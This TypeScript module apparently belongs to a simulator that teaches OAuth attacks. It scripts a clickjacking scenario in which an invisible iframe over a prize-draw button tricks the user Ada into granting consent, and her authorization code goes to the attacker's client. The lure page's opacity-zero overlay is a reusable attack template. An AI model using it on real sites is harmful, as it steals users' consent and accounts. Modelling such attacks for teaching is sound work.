/** What is done with a frame that nobody sees: it is laid over a button, filled, pressed, and sent on. */
import { EVIL_ORIGIN } from "@/lib/cast/attacked";
import { visit } from "@/lib/cast/steps/browser";
import type { StepContext } from "@/lib/flow/define";
import type { Move } from "@/lib/flow/move";
import { writeBait } from "@/lib/parties/attacker/attacker";
import { LURE_PATH } from "@/lib/parties/attacker/pages";
import { originOf, resolve } from "@/lib/parties/browser/browser";
import { fillForm } from "@/lib/parties/browser/forms";
import { documentOf, html } from "@/lib/parties/html";
import { recall } from "@/lib/world/world";
import { askForPage, codeIn, pressTwice } from "./devices";
import { hasAllow, mayShow, visitInFrame } from "./framed";
import { frameWords, luredWords, pressedWords } from "./words";
import { requestOf } from "./world";

const INVISIBLE = "position: absolute; inset: 0; width: 100%; height: 100%; opacity: 0";

/** A button that does nothing, and over it a frame that nobody sees. */
const drawPage = (url: string): string =>
	documentOf(
		"Prize draw",
		html`<main>
<h1>Have you won?</h1>
<p><button type="button">Show my prize</button></p>
<iframe src="${url}" style="${INVISIBLE}"></iframe>
</main>`,
	);

const writeRequest = (ctx: StepContext): string =>
	ctx.work("attacker", { note: "bait" }, (at) => {
		const request = requestOf(ctx);
		const facts = [{ name: "redirect_uri", text: request.redirectUri }];
		return { result: writeBait(at, request), facts };
	});

export const layFrame: Move<"LURED" | "NOT_LURED"> = {
	phase: "prepare",
	actor: "attacker",
	does: "lays a frame over a button",
	text: "The attacker's client asks for access. Its page loads what the server has for Ada in a frame over a button, and Ada opens the page.",
	events: { LURED: "Ada has the attacker's page in front of her.", NOT_LURED: "Ada's browser went somewhere else." },
	step: {
		kind: "run",
		run: async (ctx) => {
			const url = ctx.settings.variant === "device" ? await askForPage(ctx) : writeRequest(ctx);
			recall(ctx.world, "attacker", "attacker").lure = drawPage(url);
			const { request, response } = await visit(ctx, "user", `${EVIL_ORIGIN}${LURE_PATH}`, { note: "lure" });
			const isThere = response.body.includes("<iframe") && originOf(request.url) === EVIL_ORIGIN;
			return { type: isThere ? "LURED" : "NOT_LURED" };
		},
	},
	words: luredWords,
};

export const fillFrame: Move<"SHOWN" | "BLOCKED" | "NO_BUTTON"> = {
	phase: "ask",
	actor: "user",
	does: "decides on the frame",
	text: "The browser loads the server's page into the frame, and looks whether it may show it there.",
	events: {
		SHOWN: "The server's page lies over the button, and nobody sees it.",
		BLOCKED: "The browser leaves the frame empty.",
		NO_BUTTON: "Nothing came with a button that would allow anything.",
	},
	step: {
		kind: "run",
		run: async (ctx) => {
			const url = recall(ctx.world, "attacker", "attacker").bait ?? "";
			const shown = await visitInFrame(ctx, url, {
				note: "framed",
				checks: ctx.settings.variant === "device" ? "with answer" : "hop",
				answerPhase: ({ status }) => (status === 200 ? "consent" : "ask"),
			});
			if (!shown.isPage) return { type: "NO_BUTTON" };
			if (!(await mayShow(ctx, shown))) return { type: "BLOCKED" };
			const { body } = shown.response;
			return { type: hasAllow(body) || codeIn(body) !== undefined ? "SHOWN" : "NO_BUTTON" };
		},
	},
	words: frameWords,
};

export const pressThrough: Move<"CODE_SENT" | "DEVICE_ALLOWED" | "NOT_SENT"> = {
	phase: "consent",
	actor: "user",
	does: "presses what she does not see",
	text: "Ada presses the button that she sees. Her browser presses the one that lies over it.",
	events: {
		CODE_SENT: "The server takes it for her consent.",
		DEVICE_ALLOWED: "The server takes it for her consent, and notes it with the attacker's device code.",
		NOT_SENT: "The server does not take it for consent.",
	},
	step: {
		kind: "run",
		run: async (ctx) => {
			if (ctx.settings.variant === "device") return { type: (await pressTwice(ctx)) ? "DEVICE_ALLOWED" : "NOT_SENT" };
			ctx.wait(5);
			const browser = recall(ctx.world, "user", "browser");
			const { html: page = "", url = "" } = browser.frame ?? {};
			const { action, body } = fillForm(page, [["decision", "allow"]]);
			const { next } = await visitInFrame(ctx, resolve(action, url), { note: "pressed" }, body);
			browser.following = next;
			return { type: next?.includes("code=") ? "CODE_SENT" : "NOT_SENT" };
		},
	},
	words: pressedWords,
};

export const catchInFrame: Move<"CODE_CAUGHT" | "NOTHING_CAUGHT"> = {
	phase: "return",
	actor: "attacker",
	does: "receives the code",
	text: "The frame goes where the server sends it: to the attacker's client.",
	events: { CODE_CAUGHT: "There is a code in the address.", NOTHING_CAUGHT: "No code came to the attacker." },
	step: {
		kind: "run",
		run: async (ctx) => {
			const { following = "" } = recall(ctx.world, "user", "browser");
			await visitInFrame(ctx, following, { note: "caught" });
			const { code } = recall(ctx.world, "attacker", "attacker");
			return { type: code === undefined ? "NOTHING_CAUGHT" : "CODE_CAUGHT" };
		},
	},
	words: {},
};
